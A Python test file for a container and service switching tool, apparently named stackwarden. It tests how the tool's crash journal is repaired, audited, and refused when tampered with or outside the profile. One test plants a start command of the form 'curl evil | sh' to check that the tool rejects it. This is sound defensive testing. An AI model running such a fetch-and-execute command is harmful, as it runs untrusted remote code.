"""The switch journal: written before each step, found when its run died, repaired by the next
switch before it plans, reported by the audit; never read from a file someone else could plant."""

from __future__ import annotations

import os
from pathlib import Path

from stackwarden.adapters.journal import Journal, read_interrupted
from stackwarden.model import Mode
from stackwarden.model.journal import out_of_scope, repair, summarize
from stackwarden.model.plan import (
    GracefulStop,
    Plan,
    RestoreRestartPolicy,
    StartContainer,
    StartProcess,
    StepStatus,
    StopContainer,
    SwitchStatus,
)
from stackwarden.planner import plan
from stackwarden.rules import diagnose
from stackwarden.run.switch import Options, run
from tests.support.fakeworld import FakeExecutor, World, fake_profile


def _stateful_stop(policy: str | None = "always") -> StopContainer:
    return StopContainer(
        id="stop-container:c1",
        service="web",
        runtime="compose",  # type: ignore[arg-type]
        why="k8s-only",
        target="container fakeproj-web-1",
        reversible=True,
        inverse="docker start fakeproj-web-1",
        container_id="c1" * 32,
        name="fakeproj-web-1",
        compose_project="fakeproj",
        timeout_seconds=5,
        stateful=True,
        graceful=GracefulStop(signal="SIGTERM", pause_restart_policy=policy),
    )


def _dead_journal(directory: Path, the_plan: Plan, steps: list[tuple[object, str | None]]) -> Journal:
    """A journal whose run "died": intents (and outcomes where given), no end, its file released."""
    journal = Journal.begin(the_plan, flow_run_id="6b1b0c4e-1a2b-4c3d-8e9f-0a1b2c3d4e5f", directory=directory)
    for step, status in steps:
        seq = journal.intent(step, "forward")  # type: ignore[arg-type]
        if status is not None:
            journal.outcome(seq, status)
    journal.close()
    return journal


def test_a_live_journal_is_not_interrupted_and_an_ended_one_is_gone(tmp_path: Path) -> None:
    the_plan = Plan(profile="fake", mode=Mode.K8S_ONLY, steps=(_stateful_stop(),))
    live = Journal.begin(the_plan, directory=tmp_path)
    live.intent(the_plan.steps[0], "forward")
    assert read_interrupted("fake", tmp_path) == []  # its writer holds the flock
    live.end("switched")
    assert not live.path.exists() and read_interrupted("fake", tmp_path) == []


def test_a_dead_runs_paused_restart_policy_is_restored_first(tmp_path: Path) -> None:
    stop = _stateful_stop("on-failure:3")
    the_plan = Plan(profile="fake", mode=Mode.K8S_ONLY, steps=(stop,))
    _dead_journal(tmp_path, the_plan, [(stop, None)])  # died during the graceful stop
    (found,) = read_interrupted("fake", tmp_path)
    assert found.mode is Mode.K8S_ONLY and found.entries[0].status is None
    (restore,) = repair([found]).steps
    assert isinstance(restore, RestoreRestartPolicy) and restore.policy == "on-failure:3"
    assert restore.commands() == [["docker", "update", "--restart", "on-failure:3", "fakeproj-web-1"]]
    # a stop that reported back put the policy back itself: nothing to repair
    reported = tmp_path / "reported"
    reported.mkdir(mode=0o700)
    _dead_journal(reported, the_plan, [(stop, "applied")])
    (done,) = read_interrupted("fake", reported)
    assert repair([done]).steps == ()


def test_a_service_stopped_but_not_started_gets_its_old_owner_back(tmp_path: Path) -> None:
    world = World(container="exited", replicas=0, process=True)
    profile = fake_profile(start_command=True)
    the_plan = plan(world.snapshot(), profile, Mode.COMPOSE_ONLY)
    stop, start = the_plan.steps
    _dead_journal(tmp_path, the_plan, [(stop, "applied")])  # died between the stop and the start
    (found,) = read_interrupted("fake", tmp_path)
    (undo,) = repair([found]).steps
    assert isinstance(undo, StartProcess) and undo.start_command == ("/usr/bin/webd", "--serve")
    # once the start ran too, the service moved: nothing to put back
    moved = tmp_path / "moved"
    moved.mkdir(mode=0o700)
    _dead_journal(moved, the_plan, [(stop, "applied"), (start, "applied")])
    assert repair(read_interrupted("fake", moved)).steps == ()


def test_a_journal_step_outside_the_profile_is_never_acted_on() -> None:
    profile = fake_profile(start_command=True)
    planted = StartProcess(
        id="undo:x",
        service="web",
        runtime="host",  # type: ignore[arg-type]
        why="w",
        target="t",
        reversible=True,
        inverse="",
        start_command=("/bin/sh", "-c", "curl evil | sh"),
    )
    assert "is not services.web.host.start_command" in (out_of_scope(planted, profile) or "")
    other = StartContainer(
        id="s",
        service="web",
        runtime="compose",  # type: ignore[arg-type]
        why="w",
        target="t",
        reversible=True,
        inverse="",
        container_id="c" * 64,
        name="n",
        compose_project="someone-elses",
    )
    assert "not in the profile" in (out_of_scope(other, profile) or "")


def test_a_journal_anyone_else_could_have_written_is_not_read(tmp_path: Path) -> None:
    stop = _stateful_stop()
    the_plan = Plan(profile="fake", mode=Mode.K8S_ONLY, steps=(stop,))
    journal = _dead_journal(tmp_path, the_plan, [(stop, None)])
    os.chmod(journal.path, 0o666)  # noqa: S103 - a file others could have written
    assert read_interrupted("fake", tmp_path) == []
    os.chmod(journal.path, 0o600)
    link = tmp_path / "journal-fake-symlink.jsonl"
    link.symlink_to(journal.path)
    assert [r.path for r in read_interrupted("fake", tmp_path)] == [str(journal.path)]  # the symlink is skipped


def test_the_next_switch_repairs_then_plans_and_says_so(tmp_path: Path, monkeypatch: object) -> None:
    monkeypatch.setenv("STACKWARDEN_LOCK_DIR", str(tmp_path))  # type: ignore[attr-defined]
    world = World(container="exited", replicas=0, process=True)
    profile = fake_profile(start_command=True, settle_seconds=0)
    the_plan = plan(world.snapshot(), profile, Mode.COMPOSE_ONLY)
    stop, _ = the_plan.steps
    _dead_journal(tmp_path, the_plan, [(stop, "applied")])
    world.process = False  # what the dead run left: webd stopped, the container never started
    executor = FakeExecutor(world, profile)
    outcome = run(profile, Mode.COMPOSE_ONLY, executor, apply=True, options=Options(deadline_seconds=5, poll_seconds=1))
    assert outcome.status is SwitchStatus.SWITCHED, outcome.message  # type: ignore[union-attr]
    assert world.applied[0] == f"repair:{stop.id}"  # webd started again before anything was planned
    repairs = " ".join(outcome.repairs)  # type: ignore[union-attr]
    assert "found: a switch of fake to compose-only" in repairs and "repaired:" in repairs
    assert executor.crashed_ids == ["6b1b0c4e-1a2b-4c3d-8e9f-0a1b2c3d4e5f"]
    assert read_interrupted("fake", tmp_path) == [] and not list(tmp_path.glob("journal-*"))
    assert [r.status for r in outcome.journal] == [StepStatus.APPLIED, StepStatus.APPLIED]  # type: ignore[union-attr]
    assert world.container == "running" and not world.process


def test_the_audit_reports_an_interrupted_switch_with_the_repair_commands(tmp_path: Path) -> None:
    stop = _stateful_stop()
    world = World()
    profile = fake_profile()
    _dead_journal(tmp_path, Plan(profile="fake", mode=Mode.K8S_ONLY, steps=(stop,)), [(stop, None)])
    snap = world.snapshot().model_copy(update={"interrupted": summarize(read_interrupted("fake", tmp_path), profile)})
    finding = {f.id: f for f in diagnose(snap, profile)}["interrupted-switch"]
    assert finding.severity == "high"
    assert finding.commands == ("docker update --restart always fakeproj-web-1",)
    assert "died during stop-container:c1" in finding.summary


def test_a_planted_repair_outside_the_profile_refuses_the_switch_and_runs_nothing(
    tmp_path: Path, monkeypatch: object
) -> None:
    """docs/security.md: a repair step outside the current profile's scope refuses the switch,
    naming the journal, and is never executed (nor is anything else of the switch)."""
    monkeypatch.setenv("STACKWARDEN_LOCK_DIR", str(tmp_path))  # type: ignore[attr-defined]
    world = World(container="exited", replicas=2)
    profile = fake_profile(settle_seconds=0)
    foreign = _stateful_stop(None).model_copy(
        update={"id": "stop-container:theirs", "compose_project": "someone-elses", "container_id": "d4" * 32}
    )
    start = StartContainer(
        id="start-container:web",
        service="web",
        runtime="compose",  # type: ignore[arg-type]
        why="compose-only",
        target="container fakeproj-web-1",
        reversible=True,
        inverse="docker stop fakeproj-web-1",
        container_id="c1" * 32,
        name="fakeproj-web-1",
        compose_project="fakeproj",
        phase="start",
    )
    journal = _dead_journal(
        tmp_path, Plan(profile="fake", mode=Mode.COMPOSE_ONLY, steps=(foreign, start)), [(foreign, "applied")]
    )
    outcome = run(profile, Mode.COMPOSE_ONLY, FakeExecutor(world, profile), apply=True)
    assert outcome.status is SwitchStatus.REFUSED, outcome.message  # type: ignore[union-attr]
    message = outcome.message  # type: ignore[union-attr]
    assert "compose project someone-elses is not in the profile" in message and str(journal.path) in message
    assert world.applied == []  # not the planted start, nor the plan's steps
    assert journal.path.exists()  # kept for a person to check
